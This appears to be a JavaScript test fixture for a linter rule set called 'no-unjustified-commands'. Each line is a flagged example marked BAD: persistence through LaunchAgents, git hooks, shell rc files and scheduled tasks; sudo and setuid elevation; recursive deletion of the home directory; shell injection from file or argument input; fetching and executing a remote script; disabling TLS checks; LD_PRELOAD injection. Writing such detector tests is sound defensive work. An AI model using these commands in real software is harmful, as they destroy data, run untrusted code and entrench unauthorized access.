import fs from 'fs';
import os from 'os';
import path from 'path';
import https from 'https';
import { exec, execSync, execFileSync, spawn } from 'child_process';

fs.copyFileSync('x.plist', path.join(os.homedir(), 'Library/LaunchAgents/x.plist')); // BAD no-unjustified-commands/persistence
fs.writeFileSync('.git/hooks/pre-commit', 'x'); // BAD no-unjustified-commands/persistence
fs.symlinkSync('x', '.git/hooks/pre-push'); // BAD no-unjustified-commands/persistence
fs.appendFileSync(`${process.env.HOME}/.zshrc`, 'x'); // BAD no-unjustified-commands/persistence
await fs.promises.writeFile(path.join(os.homedir(), '.config/autostart/x.desktop'), 'x'); // BAD no-unjustified-commands/persistence
execFileSync('schtasks', ['/create', '/tn', 'x', '/tr', 'x']); // BAD no-unjustified-commands/persistence
spawn('sudo', ['ls']); // BAD no-unjustified-commands/elevation
exec('sudo ls'); // BAD no-unjustified-commands/elevation
process.setuid(0); // BAD no-unjustified-commands/elevation
fs.rmSync(os.homedir(), { recursive: true }); // BAD no-unjustified-commands/destruction
execSync(`git checkout ${fs.readFileSync('branch.txt', 'utf8')}`); // BAD no-unjustified-commands/untrusted-input
spawn('ls ' + process.argv[2], { shell: true }); // BAD no-unjustified-commands/untrusted-input
const script = await (await fetch('https://get.acme.dev/x')).text();
execSync(script); // BAD no-unjustified-commands/download-and-run
execFileSync('bash', ['-c', script]); // BAD no-unjustified-commands/download-and-run
fs.writeFileSync('x.sh', script);
execFileSync('bash', ['x.sh']); // BAD no-unjustified-commands/download-and-run
https.globalAgent.options.rejectUnauthorized = false; // BAD no-unjustified-commands/protection-off
spawn('x', { env: { LD_PRELOAD: './x.so' } }); // BAD no-unjustified-commands/preload
